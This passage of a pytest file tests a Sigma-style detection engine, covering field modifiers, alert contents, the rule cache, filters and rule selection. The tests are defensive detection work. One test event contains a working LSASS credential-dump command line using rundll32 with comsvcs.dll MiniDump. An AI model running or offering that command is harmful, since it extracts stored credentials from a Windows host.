    assert fires(tmp_path, every, {"Tags": ["Discovery", "Persistence"]})
    assert not fires(tmp_path, every, {"Tags": ["Discovery"]})
    negated = "sel: {Tags: 'persistence'}\ncondition: not sel"
    assert not fires(tmp_path, negated, {"Tags": ["discovery", "persistence"]})
    assert fires(tmp_path, negated, {"Tags": ["discovery"]})


def test_list_field_values_with_typed_modifiers(tmp_path: Path) -> None:
    regex = "sel: {Ports|re: '^44[0-9]$'}\ncondition: sel"
    assert fires(tmp_path, regex, {"Ports": ["80", "443"]})
    cidr = "sel: {Addresses|cidr: '10.0.0.0/8'}\ncondition: sel"
    assert fires(tmp_path, cidr, {"Addresses": ["192.0.2.1", "10.1.1.1"]})
    number = "sel: {Ports: 443}\ncondition: sel"
    assert fires(tmp_path, number, {"Ports": [80, 443]})
    assert not fires(tmp_path, number, {"Ports": [80, 8443]})


def test_numeric_comparison_on_a_list_field(tmp_path: Path) -> None:
    """Like every other value type, a comparison holds when one item of a list holds it."""
    detection = "sel: {Ports|gt: 1024}\ncondition: sel"
    assert fires(tmp_path, detection, {"Ports": [80, 4444]})
    assert not fires(tmp_path, detection, {"Ports": [80, 443]})


def test_string_values_match_integer_fields(tmp_path: Path) -> None:
    detection = "sel: {DestinationPort|startswith: '44', ProcessId: '4*'}\ncondition: sel"
    assert fires(tmp_path, detection, {"DestinationPort": 4444, "ProcessId": 42})
    assert not fires(tmp_path, detection, {"DestinationPort": 3389, "ProcessId": 42})


def test_nested_fields_by_dotted_names(tmp_path: Path) -> None:
    detection = "sel: {userIdentity.type: Root, requestParameters.userName|contains: adm}"
    engine, _ = compile_docs(
        tmp_path,
        rule(detection + "\ncondition: sel", logsource="product: aws\n  service: cloudtrail"),
    )
    event = Event(
        timestamp=T0,
        host=None,
        format=LogFormat.CLOUDTRAIL,
        logsource=LogSource(product="aws", service="cloudtrail"),
        source=EventSource(file="trail.json", record=3),
        fields={"userIdentity.type": "Root", "requestParameters.userName": "badadmin"},
    )
    assert engine.match(event)


# ---------------------------------------------------------------------------------------------
# what an alert carries


def test_alert_carries_rule_facts_evidence_and_source(tmp_path: Path) -> None:
    doc = rule(
        r"sel: {Image|endswith: '\rundll32.exe', CommandLine|contains: 'comsvcs'}"
        "\ncondition: sel",
        title="LSASS dump with comsvcs",
        level="high",
        tags=("attack.credential-access", "attack.t1003.001", "attack.s0002"),
    )
    engine, _ = compile_docs(tmp_path, doc)
    event = windows(
        {
            "Image": r"C:\Windows\System32\rundll32.exe",
            "CommandLine": "rundll32 comsvcs.dll MiniDump 624 l.dmp full",
            "User": "CORP\\eve",
            "Unrelated": "noise",
        },
        host="WS7",
        record=42,
    )
    (alert,) = engine.match(event)
    assert alert.rule.id == RULE_ID
    assert alert.rule.title == "LSASS dump with comsvcs"
    assert alert.level is Level.HIGH
    assert alert.rule.techniques == ("T1003.001",)
    assert alert.rule.tactics == ("credential-access",)
    assert (alert.host, alert.timestamp, alert.user) == ("WS7", T0, "CORP\\eve")
    assert alert.source == EventSource(file="events.evtx", record=42)
    assert alert.fields["Image"] == event.fields["Image"]
    assert alert.fields["CommandLine"] == event.fields["CommandLine"]
    assert alert.fields["EventID"] == 1
    assert "Unrelated" not in alert.fields
    body = alert.to_json()
    assert body["techniques"] == ["T1003.001"]
    assert body["source"] == {"file": "events.evtx", "record": 42}


def test_rules_loaded_from_the_cache_match_like_fresh_ones(tmp_path: Path) -> None:
    """Every value kind survives the rule cache (its JSON round trip)."""
    detection = r"""
    a: {Image|endswith: '\x.exe', CommandLine|contains|all: ['-a', '-b']}
    b: {CommandLine|re|i: '^PS\s'}
    c: {DestinationIp|cidr: '10.0.0.0/8', DestinationPort|gte: 1024}
    d: {User|expand: '%Admins%', Signed: false}
    e: {TargetUserName|fieldref: SubjectUserName, LogonType: 3}
    f: {PasswordLastSet: null, Hashes|exists: true}
    g: {CommandLine|cased: 'Z'}
    h: ['keyword?here']
    i: {CommandLine|windash|contains: '-enc'}
    condition: 1 of them
    """
    root = tmp_path / "rules"
    root.mkdir()
    (root / "r.yml").write_text(rule(detection))
    cache = tmp_path / "cache" / "rules.json"
    events = [
        windows({"Image": r"C:\x.exe", "CommandLine": "-b -a"}),
        windows({"CommandLine": "ps x"}),
        windows({"DestinationIp": "10.9.9.9", "DestinationPort": "8080"}),
        windows({"User": "root", "Signed": "false"}),
        windows({"TargetUserName": "A", "SubjectUserName": "a", "LogonType": 3}),
        windows({"Hashes": "x"}),
        windows({"CommandLine": "z"}),
        windows({"CommandLine": "x /enc"}),
        windows({"Message": "a keyword-here b"}),
        windows({"CommandLine": "nothing"}),
    ]
    selection = Selection(placeholders={"Admins": ["root"]})
    results = []
    for _ in range(2):  # the first load writes the cache, the second reads it
        load = load_rules(root, cache=cache)
        engine, _ = compile_rules(load, selection)
        results.append([bool(engine.match(e)) for e in events])
    assert load.cached == 1
    assert results[0] == results[1] == [True] * 6 + [False, True, True, False]


# ---------------------------------------------------------------------------------------------
# filters (Sigma meta rules) and rule selection


FILTER_ID_RULE = """\
title: Not on the build servers
logsource:
  product: windows
  category: process_creation
filter:
  rules:
    - {target}
  selection:
    Computer|startswith: 'BUILD'
  condition: not selection
"""


def whoami_rule(**kw: Any) -> str:
    return rule(r"sel: {Image|endswith: '\whoami.exe'}" + "\ncondition: sel", **kw)


@pytest.mark.parametrize("target", [RULE_ID, "whoami_run"], ids=["by_id", "by_name"])
def test_filter_suppresses_matches_of_its_rules(tmp_path: Path, target: str) -> None:
    other_id = "5c0e1f0a-8d2b-4b8e-9f0f-0a1b2c3d0003"
    engine, _ = compile_docs(
        tmp_path,
        whoami_rule(name="whoami_run"),
        whoami_rule(rule_id=other_id, title="Same rule, not filtered"),
        FILTER_ID_RULE.format(target=target),
    )
    on_build = {a.rule.id for a in engine.match(windows({"Image": WHOAMI}, host="build07"))}
    on_desk = {a.rule.id for a in engine.match(windows({"Image": WHOAMI}, host="WS1"))}
    assert on_build == {other_id}
    assert on_desk == {RULE_ID, other_id}


def test_filter_for_any_rule_of_its_logsource(tmp_path: Path) -> None:
    linux_id = "7e2d9a10-4b1c-4a37-9a0b-1c2d3e4f0004"
    engine, _ = compile_docs(
        tmp_path,
        whoami_rule(),
        rule("kw: ['whoami']\ncondition: kw", rule_id=linux_id, logsource=LINUX),
        FILTER_ID_RULE.replace("rules:\n    - {target}", "rules: any"),
    )
    assert not engine.match(windows({"Image": WHOAMI}, host="BUILD1"))
    assert engine.match(windows({"Image": WHOAMI}, host="WS1"))
    # the filter's logsource is Windows process creation: the Linux rule is not filtered
    assert engine.match(syslog_event("BUILD1 whoami"))


def test_filter_of_another_logsource_is_not_applied(tmp_path: Path) -> None:
    other_logsource = FILTER_ID_RULE.format(target=RULE_ID).replace(
        "category: process_creation", "category: network_connection"
    )
    engine, _ = compile_docs(tmp_path, whoami_rule(), other_logsource)
    assert engine.match(windows({"Image": WHOAMI}, host="BUILD1"))


def test_filter_on_a_rule_whose_condition_is_all_of_them(tmp_path: Path) -> None:
    detection = r"""
    sel_image: {Image|endswith: '\whoami.exe'}
    sel_args: {CommandLine|contains: '/priv'}
    condition: all of them
    """
    engine, _ = compile_docs(tmp_path, rule(detection), FILTER_ID_RULE.format(target=RULE_ID))
    event = {"Image": WHOAMI, "CommandLine": "whoami /priv"}
    assert engine.match(windows(event, host="WS1"))
    assert not engine.match(windows(event, host="BUILD1"))


LEVELS = ("informational", "low", "medium", "high", "critical")


def level_rules() -> list[str]:
    return [
        whoami_rule(
            rule_id=f"3f2a1b0c-0000-4000-8000-00000000000{i}",
            title=level,
            level=level,
            status=("stable", "test", "experimental", "deprecated", "test")[i],
        )
        for i, level in enumerate(LEVELS)
    ]


@pytest.mark.parametrize(
    ("selection", "titles", "selected_out"),
    [
        (Selection(), set(LEVELS), 0),
        (Selection(min_level=Level.HIGH), {"high", "critical"}, 3),
        (Selection(min_level=Level.CRITICAL), {"critical"}, 4),
        (
            Selection(statuses=frozenset({"stable", "test"})),
            {"informational", "low", "critical"},
            2,
        ),
        (
            Selection(exclude=frozenset({"3f2a1b0c-0000-4000-8000-000000000004"})),
            {"informational", "low", "medium", "high"},
            1,
        ),
        (
            Selection(min_level=Level.MEDIUM, statuses=frozenset({"test"})),
            {"critical"},
            4,
        ),
    ],
)
def test_selection(
    tmp_path: Path, selection: Selection, titles: set[str], selected_out: int
) -> None:
    engine, report = compile_docs(tmp_path, *level_rules(), selection=selection)
    assert {a.rule.title for a in engine.match(windows({"Image": WHOAMI}))} == titles
    assert report.selected_out == selected_out
    assert len(engine.rules) == len(titles)
